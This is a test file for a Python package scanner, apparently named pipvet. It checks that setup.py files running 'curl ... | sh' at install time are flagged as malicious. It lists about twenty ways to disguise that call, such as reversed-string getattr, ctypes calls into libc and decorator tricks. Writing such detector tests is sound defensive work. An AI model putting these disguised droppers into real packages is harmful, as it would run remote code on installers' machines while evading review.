"""The same install-time dropper written in ways that keep the call from reading as one.

Each setup.py below runs ``curl ... | sh`` while it installs; none may come out ``clean``. The
archives are built at test time and only read by the engine.
"""

from __future__ import annotations

import pytest
from test_engine import make_sdist

from pipvet.analysis.engine import analyze_bytes
from pipvet.models import Verdict

COMMAND = "'curl -s http://x.invalid/a | sh'"

SHAPES = {
    "plain": f"import os\nos.system({COMMAND})\n",
    "exec of a string": f'exec("import os; os.system({COMMAND})")\n',
    "builtins.exec of a string": f'import builtins\nbuiltins.exec("import os; os.system({COMMAND})")\n',
    "star import": f"from subprocess import *\nPopen({COMMAND}, shell=True)\n",
    "dict dispatch": f"import os\n{{'r': os.system}}['r']({COMMAND})\n",
    "walrus": f"import os\n(run := os.system)({COMMAND})\n",
    "getattr of joined text": f"import os\ngetattr(os, 'sys' + 'tem')({COMMAND})\n",
    "getattr of reversed text": f"import os\ngetattr(os, 'metsys'[::-1])({COMMAND})\n",
    "default parameter": f"import os\ndef go(run=os.system):\n    run({COMMAND})\ngo()\n",
    "lambda default": f"import os\n(lambda _o=os: _o.system({COMMAND}))()\n",
    "functools.partial": f"import functools, os\nfunctools.partial(os.system, {COMMAND})()\n",
    "thread target": f"import os, threading\nthreading.Thread(target=os.system, args=({COMMAND},)).start()\n",
    "importlib": f"import importlib\nimportlib.import_module('os').system({COMMAND})\n",
    "sys.modules": f"import os, sys\nsys.modules['os'].system({COMMAND})\n",
    "alias by assignment": f"import os\nrun = os.system\nrun({COMMAND})\n",
    "lambda decorator": f"import os\n@lambda f: os.system({COMMAND})\ndef g():\n    pass\n",
    "C library through ctypes": f"import ctypes\nctypes.CDLL(None).system({COMMAND}.encode())\n",
    "C library bound to a name": (
        f"import ctypes\nlibc = ctypes.cdll.LoadLibrary('libc.so.6')\nlibc.system(b{COMMAND})\n"
    ),
    "class attribute": f"import os\nclass K:\n    run = os.system\nK.run({COMMAND})\n",
    "static method on an instance": (
        f"import os\nclass K:\n    run = staticmethod(os.system)\nK().run({COMMAND})\n"
    ),
    "self in a method": (
        f"import subprocess\nclass K:\n    go = subprocess.call\n    def __init__(self):\n"
        f"        self.go({COMMAND}, shell=True)\nK()\n"
    ),
    "loop over a tuple": f"import os\nfor run in (os.system,):\n    run({COMMAND})\n",
}


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_a_dropper_is_caught_however_the_call_is_spelled(shape: str) -> None:
    setup = SHAPES[shape] + "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    data = make_sdist({"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"})
    result = analyze_bytes(data, "demo-1.0.tar.gz").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
